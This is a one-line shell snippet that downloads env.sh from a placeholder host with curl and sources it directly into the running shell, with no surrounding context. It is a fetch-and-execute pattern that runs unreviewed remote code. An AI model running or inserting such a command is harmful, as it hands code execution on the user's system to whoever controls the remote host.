source <(curl -s http://x.example/env.sh)
